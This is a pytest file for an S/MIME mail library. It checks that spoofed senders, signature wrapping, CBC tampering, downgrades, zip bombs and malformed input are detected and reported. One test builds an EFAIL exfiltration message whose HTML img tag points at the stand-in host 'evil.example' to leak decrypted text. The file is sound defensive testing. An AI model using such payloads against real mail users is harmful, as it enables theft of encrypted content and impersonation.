"""Known attacks, and input that is simply wrong: the report says so, and nothing but our own errors comes out."""

from __future__ import annotations

import zlib
from dataclasses import replace
from datetime import timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from emailplus.errors import DecryptionFailed, EmailplusError, MalformedCms, SmimeLimitExceeded
from emailplus.mime.transfer import base64_lines
from emailplus.smime import algorithms as alg
from emailplus.smime import cms, der
from emailplus.smime.ber import encode_length, to_der
from emailplus.smime.decrypt import decompress, decrypt
from emailplus.smime.encrypt import encrypt_for, enveloped_data
from emailplus.smime.entity import parse
from emailplus.smime.keychain import KeyEntry
from emailplus.smime.message import OpenedMessage, open_message
from emailplus.smime.report import Reason, Revocation, Word
from emailplus.smime.sign import pkcs7_entity, sign_clear, sign_opaque, signed_data
from emailplus.smime.trust import Trust
from emailplus.smime.verify import verify_signed
from tests.smime.conftest import NOW, Authority

ENTITY = b"Content-Type: text/plain\r\n\r\nPay the invoice.\r\n"
FROM = b"From: Alice <alice@example.com>\r\n"


def _reasons(opened: OpenedMessage) -> set[Reason]:
    return {finding.reason for finding in opened.report.reasons()}


def test_from_spoofing(authority: Authority) -> None:
    made = sign_clear(ENTITY, authority.issue("p256"))
    spoofed = open_message(b"From: Boss <boss@example.com>\r\n" + made, trust=authority.trust)
    assert spoofed.report.word is Word.DOUBTFUL
    assert Reason.ADDRESS_MISMATCH in _reasons(spoofed)
    two = open_message(b"From: boss@example.com\r\n" + FROM + made, trust=authority.trust)
    assert two.report.word is Word.DOUBTFUL
    display = open_message(b'From: "alice@example.com" <boss@example.com>\r\n' + made, trust=authority.trust)
    assert Reason.ADDRESS_MISMATCH in _reasons(display)
    sender = open_message(b"From: boss@example.com\r\nSender: alice@example.com\r\n" + made, trust=authority.trust)
    assert sender.report.word is Word.DOUBTFUL
    assert Reason.SIGNED_BY_SENDER in _reasons(sender)


def test_addresses_of_certificates(authority: Authority) -> None:
    two = authority.issue("p256", ("other@example.com", "Alice@Example.com"))
    assert open_message(FROM + sign_clear(ENTITY, two), trust=authority.trust).report.word is Word.TRUSTED
    old = open_message(FROM + sign_clear(ENTITY, authority.issue("p256", old_subject=True)), trust=authority.trust)
    assert old.report.word is Word.TRUSTED
    assert Reason.ADDRESS_IN_SUBJECT in _reasons(old)


def test_protected_from_differs(authority: Authority) -> None:
    inner = b'From: boss@example.com\r\nContent-Type: text/plain; hp="clear"\r\n\r\nPay.\r\n'
    opened = open_message(FROM + sign_clear(inner, authority.issue("p256")), trust=authority.trust)
    assert opened.report.word is Word.DOUBTFUL
    assert Reason.HEADER_MISMATCH in _reasons(opened)


def test_partly_signed(authority: Authority) -> None:
    signed = sign_clear(ENTITY, authority.issue("p256"))
    mixed = b"".join(
        (
            FROM + b"Content-Type: multipart/mixed; boundary=mm\r\n\r\n--mm\r\n",
            signed,
            b"\r\n--mm\r\nContent-Type: text/plain\r\n\r\nTo the account below.\r\n--mm--\r\n",
        )
    )
    opened = open_message(mixed, trust=authority.trust)
    assert opened.report.word is Word.PARTIAL
    assert opened.report.layers[0].signers[0].intact


def test_signature_wrapping(authority: Authority) -> None:
    """A third part, or content inside a signature that ought to be detached, never becomes what was signed."""
    entry = authority.issue("p256")
    signed = sign_clear(ENTITY, entry)
    boundary = signed.split(b'boundary="')[1].split(b'"')[0]
    evil = b"--" + boundary + b"\r\nContent-Type: text/plain\r\n\r\nEvil.\r\n"
    opened = open_message(FROM + signed.replace(b"--" + boundary, evil + b"--" + boundary, 1), trust=authority.trust)
    assert opened.report.word is Word.INVALID
    attached = base64_lines(signed_data(ENTITY, [entry]))
    evil = signed.replace(b"Pay the", b"Forget the")
    head, _, _ = evil.partition(b'filename="smime.p7s"\r\n\r\n')
    wrapped = head + b'filename="smime.p7s"\r\n\r\n' + attached + b"--" + boundary + b"--\r\n"
    assert open_message(FROM + wrapped, trust=authority.trust).report.word is Word.INVALID


def test_attributes_offered_as_content(authority: Authority) -> None:
    """The signature over signed attributes is not one over a message that consists of them."""
    entry = authority.issue("p256")
    signed = cms.parse(signed_data(ENTITY, [entry]))
    assert isinstance(signed, cms.SignedData)
    info = signed.signers[0]
    stripped = replace(info, signed_attributes=b"", content_types=(), message_digests=())
    forged = replace(signed, content=info.signed_attributes, signers=(stripped,))
    (report,) = verify_signed(forged, info.signed_attributes, authority.trust, form="opaque").signers
    assert not report.intact


def test_efail_direct_exfiltration(authority: Authority) -> None:
    entry = authority.issue("rsa")
    (copy,) = encrypt_for(ENTITY, entry.certificate, {"bob@example.com": entry.certificate}, cipher="aes256-cbc")
    evil = b"".join(
        (
            FROM + b"Content-Type: multipart/mixed; boundary=mm\r\n\r\n--mm\r\nContent-Type: text/html\r\n\r\n",
            b'<img src="http://evil.example/\r\n--mm\r\n' + copy.entity,
            b'\r\n--mm\r\nContent-Type: text/html\r\n\r\n">\r\n--mm--\r\n',
        )
    )
    opened = open_message(evil, keys=[entry], trust=authority.trust)
    assert Reason.NOT_OPENED in _reasons(opened)
    assert b"invoice" not in opened.content
    assert opened.report.word is Word.UNREADABLE


def test_cbc_gadgets_are_never_trusted(authority: Authority) -> None:
    """Changed CBC blocks may decrypt to something; nobody is told that it is authentic."""
    entry = authority.issue("rsa")
    made = bytearray(enveloped_data(ENTITY, [entry.certificate], cipher="aes256-cbc"))
    made[-40] ^= 1
    opened = open_message(FROM + pkcs7_entity(bytes(made), "enveloped-data"), keys=[entry], trust=authority.trust)
    assert opened.report.word in (Word.ENCRYPTED, Word.UNREADABLE)
    assert Reason.NOT_AUTHENTICATED in _reasons(opened)


def test_signed_outside_encryption_only(authority: Authority) -> None:
    entry = authority.issue("rsa")
    (copy,) = encrypt_for(ENTITY, entry.certificate, {})
    opened = open_message(FROM + sign_clear(copy.entity, entry), keys=[entry], trust=authority.trust)
    assert [layer.kind for layer in opened.report.layers] == ["signed", "encrypted"]
    assert opened.report.word is Word.DOUBTFUL
    assert Reason.SIGNED_OUTSIDE_ENCRYPTION in _reasons(opened)


@pytest.mark.parametrize("cipher", ["aes256-gcm", "aes256-cbc"])
def test_one_error_for_every_failure(cipher: str, authority: Authority) -> None:
    """Wrong key block, wrong padding, wrong tag: the same kind and the same words."""
    entry = authority.issue("rsa")
    made = enveloped_data(ENTITY, [entry.certificate], cipher=cipher, transport="v1.5")  # type: ignore[arg-type]
    envelope = cms.parse(made)
    assert isinstance(envelope, cms.EnvelopedData)
    recipient = envelope.recipients[0]
    bad_keys = [bytes(256), b"\x01" * 256, recipient.encrypted_key[:-1], recipient.encrypted_key[::-1]]
    # Cut, because CBC with a random key could come out with right padding by chance, once in 256.
    broken = [replace(envelope, recipients=(replace(recipient, encrypted_key=bad),)) for bad in bad_keys]
    broken = [replace(one, ciphertext=envelope.ciphertext[:-1]) for one in broken]
    broken.append(replace(envelope, ciphertext=envelope.ciphertext[:-1]))
    said = set()
    for one in broken:
        with pytest.raises(DecryptionFailed) as caught:
            decrypt(one, [entry])
        said.add(str(caught.value))
    assert len(said) == 1


def test_authenticated_content_is_all_or_nothing(authority: Authority) -> None:
    entry = authority.issue("p256")
    envelope = cms.parse(enveloped_data(ENTITY, [entry.certificate]))
    assert isinstance(envelope, cms.EnvelopedData)
    for at in range(len(envelope.ciphertext)):
        altered = bytearray(envelope.ciphertext)
        altered[at] ^= 1
        with pytest.raises(DecryptionFailed):
            decrypt(replace(envelope, ciphertext=bytes(altered)), [entry])
    short = replace(envelope, mac=(envelope.mac or b"")[:4])
    with pytest.raises(DecryptionFailed):
        decrypt(short, [entry])


def test_downgrade_from_authenticated_to_cbc_is_refused(authority: Authority) -> None:
    entry = authority.issue("p256")
    envelope = cms.parse(enveloped_data(ENTITY, [entry.certificate]))
    assert isinstance(envelope, cms.EnvelopedData)
    with pytest.raises(MalformedCms):
        decrypt(replace(envelope, mac=None), [entry])


@pytest.mark.parametrize("make", [sign_clear, sign_opaque])
def test_no_altered_byte_stays_trusted(make: object, authority: Authority) -> None:
    """Every region of the CMS object and of the content, one bit at a time."""
    entry = authority.issue("p256")
    assert callable(make)
    content = bytearray(ENTITY)
    data = signed_data(ENTITY, [entry], detached=make is sign_clear)
    untouched = cms.parse(data)
    assert isinstance(untouched, cms.SignedData)
    for at in range(len(data)):
        altered = bytearray(data)
        altered[at] ^= 1 << at % 8
        try:
            signed = cms.parse(bytes(altered))
        except EmailplusError:
            continue
        if not isinstance(signed, cms.SignedData):
            continue
        inside = signed.content if signed.content is not None else ENTITY
        layer = verify_signed(signed, inside, authority.trust, form="opaque")
        if any(signer.trusted for signer in layer.signers):
            # What may change is what nobody relies on: versions, lists that only announce, the case of a name.
            assert inside == ENTITY
            assert signed.signers[0].signed_attributes == untouched.signers[0].signed_attributes
            assert layer.signers[0].certificate is not None
            assert layer.signers[0].certificate.fingerprint == entry.fingerprint
    for at in range(len(content)):
        altered = bytearray(content)
        altered[at] ^= 1
        layer = verify_signed(cms.parse(data), bytes(altered), authority.trust, form="multipart")  # type: ignore[arg-type]
        assert not any(signer.intact for signer in layer.signers)


def test_self_signed_and_foreign_chains(authority: Authority) -> None:
    other = Authority()
    opened = open_message(FROM + sign_clear(ENTITY, other.issue("p256")), trust=authority.trust)
    assert opened.report.word is Word.DOUBTFUL
    assert Reason.NO_PATH in _reasons(opened)
    nothing = open_message(FROM + sign_clear(ENTITY, authority.issue("p256")), trust=Trust())
    assert nothing.report.word is Word.DOUBTFUL


def test_a_leaf_is_no_authority(authority: Authority) -> None:
    leaf = authority.issue("p256")
    child = Authority()
    child.key, child.name, child.certificate = leaf.private_key, leaf.certificate.subject, leaf.certificate
    entry = replace(child.issue("p384"), chain=(leaf.certificate,))
    opened = open_message(FROM + sign_clear(ENTITY, entry), trust=authority.trust)
    assert Reason.NO_PATH in _reasons(opened)


def test_times(authority: Authority) -> None:
    entry = authority.issue("p256")
    made = FROM + sign_clear(ENTITY, entry)
    later = open_message(made, trust=replace(authority.trust, now=NOW + timedelta(days=60)))
    assert later.report.word is Word.DOUBTFUL
    assert _reasons(later) == {Reason.EXPIRED}
    early = open_message(made, trust=replace(authority.trust, now=NOW - timedelta(days=1)))
    assert _reasons(early) == {Reason.SIGNED_IN_FUTURE}


def test_certificates_made_for_something_else(authority: Authority) -> None:
    fit = authority.issue("p256")
    data = signed_data(ENTITY, [fit])
    signed = cms.parse(data)
    assert isinstance(signed, cms.SignedData)
    for unfit, reason in (
        (authority.issue("p256", usage=("key_agreement",)), Reason.KEY_USAGE),
        (authority.issue("p256", mail=False), Reason.EXTENDED_KEY_USAGE),
    ):
        sid = cms.PartyId(unfit.certificate.issuer.public_bytes(), unfit.certificate.serial_number)
        other = replace(signed, signers=(replace(signed.signers[0], sid=sid),))
        layer = verify_signed(other, ENTITY, authority.trust, form="opaque", known=[unfit.certificate])
        assert layer.signers[0].intact
        assert [finding.reason for finding in layer.signers[0].findings] == [reason]


def test_revocation_states(authority: Authority) -> None:
    entry = authority.issue("p256")
    made = FROM + sign_clear(ENTITY, entry)
    foreign = Authority().crl(entry.certificate)
    for crls, state, word in (
        ((), Revocation.UNAVAILABLE, Word.DOUBTFUL),
        ((foreign,), Revocation.UNAVAILABLE, Word.DOUBTFUL),
        ((authority.crl(),), Revocation.GOOD, Word.TRUSTED),
        ((authority.crl(start=-9, end=-2),), Revocation.UNAVAILABLE, Word.DOUBTFUL),
        ((authority.crl(entry.certificate),), Revocation.REVOKED, Word.DOUBTFUL),
        ((authority.crl(entry.certificate, start=-9, end=-2), authority.crl()), Revocation.REVOKED, Word.DOUBTFUL),
    ):
        trust = replace(authority.trust, check_revocation=True, crls=crls)
        report = open_message(made, trust=trust).report
        assert (report.layers[0].signers[0].revocation, report.word) == (state, word)
    assert open_message(made, trust=authority.trust).report.layers[0].signers[0].revocation is Revocation.NOT_CHECKED


def _compressed(content: bytes) -> bytes:
    inner = der.sequence(der.oid(alg.DATA), der.explicit(0, der.octets(content)))
    data = der.sequence(der.integer(0), der.algorithm(alg.ZLIB), inner)
    return der.sequence(der.oid(alg.COMPRESSED_DATA), der.explicit(0, data))


def test_zip_bomb() -> None:
    bomb = _compressed(zlib.compress(bytes(2_000_000)))
    compressed = cms.parse(bomb)
    assert isinstance(compressed, cms.CompressedData)
    with pytest.raises(SmimeLimitExceeded):
        decompress(compressed, 1_000_000)
    opened = open_message(pkcs7_entity(bomb, "compressed-data"), max_unwrapped=1_000_000)
    assert opened.report.word is Word.UNREADABLE
    assert Reason.LIMIT in _reasons(opened)


def test_nesting_has_an_end(authority: Authority) -> None:
    entry: KeyEntry = authority.issue("p256")
    entity = ENTITY
    for _ in range(12):
        entity = sign_opaque(entity, entry)
    opened = open_message(FROM + entity, trust=authority.trust)
    assert len(opened.report.layers) == 8
    assert Reason.LIMIT in _reasons(opened)
    assert opened.report.word is not Word.TRUSTED


def _pieces(tag: int, *content: bytes) -> bytes:
    return bytes([tag, 0x80]) + b"".join(content) + b"\0\0"


@given(st.binary(max_size=400))
@settings(max_examples=200, deadline=None)
def test_bytes_of_any_kind(data: bytes) -> None:
    for text in (data, b"\x30\x80" + data, b"\x30" + encode_length(len(data)) + data):
        try:
            der_form = to_der(text)
        except EmailplusError:
            continue
        assert to_der(der_form) == der_form
        try:
            cms.parse(text)
        except EmailplusError:
            continue


@given(st.lists(st.binary(max_size=40), max_size=8))
@settings(max_examples=100, deadline=None)
def test_content_in_pieces_is_the_content(pieces: list[bytes]) -> None:
    octets = _pieces(0x24, *(der.octets(piece) for piece in pieces))
    whole = der.sequence(der.oid(alg.DATA), der.explicit(0, der.octets(b"".join(pieces))))
    assert to_der(_pieces(0x30, der.oid(alg.DATA), _pieces(0xA0, octets))) == whole


@given(st.binary(max_size=300))
@settings(max_examples=150, deadline=None)
def test_mail_of_any_kind(data: bytes) -> None:
    """Whatever stands in a mail, opening it ends in a report."""
    head = b'Content-Type: application/pkcs7-mime; name="smime.p7m"\r\n\r\n'
    for raw in (data, head + data, b'Content-Type: multipart/signed; boundary="x"\r\n\r\n--x\r\n' + data):
        assert open_message(raw).report.word is not Word.TRUSTED


def test_depth_and_trailing_bytes() -> None:
    with pytest.raises(SmimeLimitExceeded):
        to_der(b"\x30\x80" * 5000)
    with pytest.raises(MalformedCms):
        to_der(der.sequence(der.integer(1)) + b"\x30\x00")
    assert to_der(der.sequence(der.integer(1)) + b"\r\n\0") == der.sequence(der.integer(1))


def test_an_rc2_key_of_no_length_is_a_failed_decryption(authority: Authority) -> None:
    """RC2 keys may have any length that the cipher takes, and none is not one."""
    from cryptography.hazmat.primitives.asymmetric import padding

    entry = authority.issue("rsa")
    envelope = cms.parse(enveloped_data(ENTITY, [entry.certificate], cipher="aes128-cbc", transport="v1.5"))
    assert isinstance(envelope, cms.EnvelopedData)
    public = entry.certificate.public_key()
    empty = public.encrypt(b"", padding.PKCS1v15())  # type: ignore[union-attr, call-arg, arg-type]
    parameters = der.sequence(der.integer(160), der.octets(bytes(8)))
    old = cms.Algorithm("1.2.840.113549.3.2", parameters, b"")
    recipient = replace(envelope.recipients[0], encrypted_key=empty)
    broken = replace(envelope, cipher=old, recipients=(recipient,), ciphertext=bytes(7))
    with pytest.raises(DecryptionFailed):
        decrypt(broken, [entry])
    with pytest.raises(DecryptionFailed):
        decrypt(replace(broken, ciphertext=bytes(9)), [entry])


def test_parts_are_cut_where_the_delimiters_are() -> None:
    head = b"Content-Type: multipart/mixed; boundary=b\r\n\r\n"
    for body, expected in (
        (b"--b\r\n\r\none\r\n--b\r\n\r\ntwo\r\n--b--\r\n", [b"\r\none", b"\r\ntwo"]),
        (b"before\r\n--b \r\n\r\none\n\r\n--b--", [b"\r\none\n"]),
        (b"--b\r\n\r\nx --b\r\n--bb\r\n\r\n--b--\r\nafter", [b"\r\nx --b\r\n--bb\r\n"]),
        (b"--b\n--b\n\ncut", [b"", b"\ncut"]),
        (b"nothing", []),
    ):
        assert [part.raw for part in parse(head + body).parts()] == expected


def test_many_copies_of_one_recipient_cost_little(authority: Authority) -> None:
    """Thousands of wrong keys for one of ours: some are tried, then it is over."""
    entry = authority.issue("rsa")
    envelope = cms.parse(enveloped_data(ENTITY, [entry.certificate], transport="v1.5"))
    assert isinstance(envelope, cms.EnvelopedData)
    wrong = replace(envelope.recipients[0], encrypted_key=b"\x01" * 256)
    with pytest.raises(DecryptionFailed):
        decrypt(replace(envelope, recipients=(wrong,) * 5000), [entry])
    few = replace(envelope, recipients=(*(wrong,) * 5, envelope.recipients[0]))
    assert decrypt(few, [entry]).content == ENTITY


def test_damaged_envelope_is_unreadable_not_forged(authority: Authority) -> None:
    opened = open_message(FROM + pkcs7_entity(b"\x30\x03\x02\x01\x00", "enveloped-data"), trust=authority.trust)
    assert opened.report.word is Word.UNREADABLE
